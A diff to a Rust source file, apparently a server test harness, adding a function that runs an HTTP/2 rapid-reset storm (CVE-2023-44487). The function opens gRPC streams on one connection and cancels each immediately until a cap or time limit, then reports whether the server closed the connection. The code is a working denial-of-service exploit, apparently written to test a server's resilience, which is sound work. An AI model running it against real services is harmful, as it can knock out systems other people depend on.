@@ -357,3 +357,51 @@ pub fn churn(target: std::net::SocketAddr, duration: Duration, interval: Duratio
         println!("DONE");
     });
 }
+
+/// A rapid-reset storm (CVE-2023-44487) on ONE HTTP/2 connection to `target`: SayHello
+/// streams, each cancelled as soon as it is sent, until the connection is closed, `max`
+/// streams were sent or `duration` passed. Prints `STORM <streams sent> <how it ended>`.
+pub fn storm(target: SocketAddr, max: usize, duration: Duration) {
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .expect("runtime");
+    rt.block_on(async move {
+        let tcp = tokio::net::TcpStream::connect(target)
+            .await
+            .expect("connect for the storm");
+        let (mut send, conn) = h2::client::handshake(tcp).await.expect("h2 handshake");
+        let conn = tokio::spawn(conn);
+        let mut sent = 0;
+        let storm = async {
+            while sent < max {
+                send = match send.ready().await {
+                    Ok(s) => s,
+                    Err(e) => return format!("closed: {e}"),
+                };
+                let req = http::Request::builder()
+                    .method("POST")
+                    .uri(format!("http://{target}{METHOD}"))
+                    .header("content-type", "application/grpc")
+                    .body(())
+                    .expect("request");
+                match send.send_request(req, false) {
+                    Ok((_response, mut body)) => {
+                        // The connection task writes the HEADERS first: h2 drops a stream
+                        // reset before it was sent without a frame.
+                        tokio::task::yield_now().await;
+                        body.send_reset(h2::Reason::CANCEL)
+                    }
+                    Err(e) => return format!("closed: {e}"),
+                }
+                sent += 1;
+            }
+            "still open after the last stream".to_string()
+        };
+        let ended = tokio::time::timeout(duration, storm)
+            .await
+            .unwrap_or_else(|_| "still open at the time limit".to_string());
+        conn.abort();
+        println!("STORM {sent} {ended}");
+    });
+}
